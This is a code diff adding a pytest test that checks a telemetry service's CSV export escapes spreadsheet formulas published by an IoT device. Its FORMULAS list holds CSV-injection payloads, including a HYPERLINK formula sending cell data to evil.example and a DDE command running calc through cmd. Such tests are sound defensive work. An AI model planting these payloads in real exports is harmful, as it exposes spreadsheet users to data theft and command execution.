@@ -16,10 +16,12 @@ import pytest
 
 from shared.accounts.tokens import Principal
 from shared.core.exceptions import DeviceNotFound, Forbidden, InvalidRange
-from shared.core.settings import Settings, settings_from
+from shared.core.settings import Settings, get_settings, settings_from
 from shared.telemetry.archive import archive_container
 from shared.telemetry.exports import create_export
-from tests.support.api import new_tenant, new_user
+from tests.support.api import call, new_tenant, new_user, users_of_each_role
+from tests.support.devices import Device, run_mqtt_ingest
+from tests.support.registry import DeviceCredential
 from tests.support.waiting import wait_for
 
 NOW = datetime.now(UTC).replace(microsecond=0)
@@ -132,3 +134,48 @@ def test_export_refuses_viewers_foreign_devices_and_bad_ranges(app_pool, databas
         export(app_pool, export_settings, owner, start=NOW, end=NOW)
     with pytest.raises(InvalidRange):
         export(app_pool, export_settings, owner, start=NOW - timedelta(days=40), end=NOW)
+
+
+# The probe's payloads (a formula, a DDE command, an @ function, arithmetic), and the starts the
+# OWASP guidance adds: each must reach the spreadsheet as the text it is, never as a formula.
+FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A2,"open")', "+1+cmd|' /C calc'!A0", "@SUM(A1)", "-1+1",
+            "\t=1+1", "\r=1+1", "=1+2;=3+4"]
+
+
+def test_csv_export_of_formulas_a_device_published_opens_as_text(broker_api, monkeypatch, app_pool, azurite_server):
+    # GIVEN a device created through the API, and an export container for the API
+    monkeypatch.setenv("STORAGE_CONNECTION_STRING", azurite_server.connection_string)
+    monkeypatch.setenv("EXPORT_CONTAINER", f"exports-{uuid.uuid4().hex[:12]}")
+    get_settings.cache_clear()
+    tenant = new_tenant(app_pool)
+    token = users_of_each_role(app_pool, tenant)["staff"]["token"]
+    reply = call("POST", "/api/devices", {"name": "press-01"}, token=token)
+    assert reply.status == 201, reply.body
+    credential = reply.json["credential"]
+    # WHEN the device publishes the formulas as text readings (and a negative number) through the
+    # real broker, the drain stores them, and staff export them as CSV through the API
+    device = Device(broker_api, DeviceCredential(tenant["slug"], "press-01", credential["username"],
+                                                 credential["client_id"], credential["password"]))
+    ts = int(NOW.timestamp() * 1000) - 60_000
+    mids = [device.publish("telemetry", {"ts": ts + i, "metrics": {"note": text, "temp": -3.5 - i}})
+            for i, text in enumerate(FORMULAS)]
+    assert set(device.wait_acked(mids).values()) == {0}
+    device.close()
+    run_mqtt_ingest()
+    reply = call("POST", "/api/exports", {"from": (NOW - timedelta(hours=1)).isoformat(),
+                                          "to": (NOW + timedelta(minutes=5)).isoformat(), "format": "csv"},
+                 token=token)
+    assert reply.status == 201, reply.body
+    status, body = fetch(reply.json["url"])
+    assert status == 200
+
+    # THEN every formula is text behind a leading quote, quoted as a cell of its own, and the numbers
+    # are bare numbers (a negative one too)
+    rows = list(csv.DictReader(io.StringIO(body.decode(), newline="")))
+    notes = [row["value_text"] for row in rows if row["metric"] == "note"]
+    assert notes == ["'" + text for text in FORMULAS]
+    assert [row["value"] for row in rows if row["metric"] == "temp"] == [str(-3.5 - i) for i in range(len(FORMULAS))]
+    text = body.decode()
+    assert '"\'=1+2;=3+4"' in text and ",-3.5," in text
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for key, cell in row.items()
+                   if key != "value")
